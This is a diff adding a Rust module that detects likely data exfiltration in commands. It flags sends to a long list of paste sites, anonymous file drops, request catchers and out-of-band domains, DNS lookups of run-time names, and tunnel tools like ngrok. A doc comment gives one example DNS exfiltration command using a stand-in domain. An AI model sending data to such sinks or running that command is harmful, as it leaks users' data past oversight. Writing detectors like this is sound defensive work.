@@ -1,0 +1,113 @@
+//! Where only exfiltration usually goes (rule `exfil.unusual-sink`):
+//! services that take data from anyone, DNS names computed at run time,
+//! tunnels from the internet to this machine, and destinations a command
+//! marked itself (a `git push` to a repository named by its URL).
+
+use crate::hosts::Dest;
+use crate::uses::NetUse;
+
+/// Why an egress goes where only exfiltration usually goes, if it does: a
+/// host that takes data from anyone ([`DROP_SITES`]), a DNS name computed
+/// at run time (the name carries the data: `nslookup $(whoami).x.example`),
+/// a tunnel that opens this machine to the internet, or what the command
+/// itself marked (a push to a repository named by URL).
+pub(crate) fn unusual_sink(u: &NetUse) -> Option<String> {
+    if let Some(why) = u.unusual {
+        return Some(why.to_string());
+    }
+    match &u.dest {
+        Dest::Host(h) if drop_site(h) => Some(format!(
+            "sends data to {h}, a service that takes data from anyone (a paste site, an anonymous file drop, a request catcher or an out-of-band testing domain)"
+        )),
+        Dest::Dynamic if DNS_TOOLS.contains(&u.what.as_str()) => Some(
+            "looks up a DNS name computed at run time: the name itself carries data out, past any proxy".into(),
+        ),
+        _ if TUNNELS.contains(&u.what.as_str()) => {
+            Some("opens a tunnel from the internet to this machine".into())
+        }
+        _ => None,
+    }
+}
+
+/// DNS and ICMP tools, whose queried names carry data.
+const DNS_TOOLS: &[&str] = &[
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "whois",
+    "ping",
+    "ping6",
+    "traceroute",
+    "resolvectl",
+];
+
+/// Programs that publish a local port to the internet.
+const TUNNELS: &[&str] = &["ngrok", "cloudflared", "localtunnel", "bore"];
+
+/// Services that take data from anyone and hand it to whoever knows where
+/// to look: paste sites, anonymous file drops, request catchers and
+/// out-of-band interaction domains (a host or any name under it).
+const DROP_SITES: &[&str] = &[
+    "pastebin.com",
+    "paste.ee",
+    "hastebin.com",
+    "ghostbin.com",
+    "dpaste.com",
+    "dpaste.org",
+    "termbin.com",
+    "ix.io",
+    "sprunge.us",
+    "0x0.st",
+    "paste.rs",
+    "rentry.co",
+    "controlc.com",
+    "transfer.sh",
+    "file.io",
+    "tmpfiles.org",
+    "bashupload.com",
+    "temp.sh",
+    "catbox.moe",
+    "litterbox.catbox.moe",
+    "gofile.io",
+    "anonfiles.com",
+    "filebin.net",
+    "oshi.at",
+    "keep.sh",
+    "webhook.site",
+    "requestbin.com",
+    "requestcatcher.com",
+    "pipedream.net",
+    "beeceptor.com",
+    "hookbin.com",
+    "mockbin.org",
+    "postb.in",
+    "ptsv2.com",
+    "ptsv3.com",
+    "interact.sh",
+    "oast.fun",
+    "oast.pro",
+    "oast.live",
+    "oast.site",
+    "oast.online",
+    "oast.me",
+    "burpcollaborator.net",
+    "oastify.com",
+    "canarytokens.com",
+    "dnslog.cn",
+    "ceye.io",
+    "requestrepo.com",
+    "ngrok.io",
+    "ngrok-free.app",
+    "ngrok.app",
+    "trycloudflare.com",
+    "loca.lt",
+    "serveo.net",
+    "localhost.run",
+];
+
+fn drop_site(host: &str) -> bool {
+    DROP_SITES
+        .iter()
+        .any(|d| host == *d || host.strip_suffix(d).is_some_and(|rest| rest.ends_with('.')))
+}
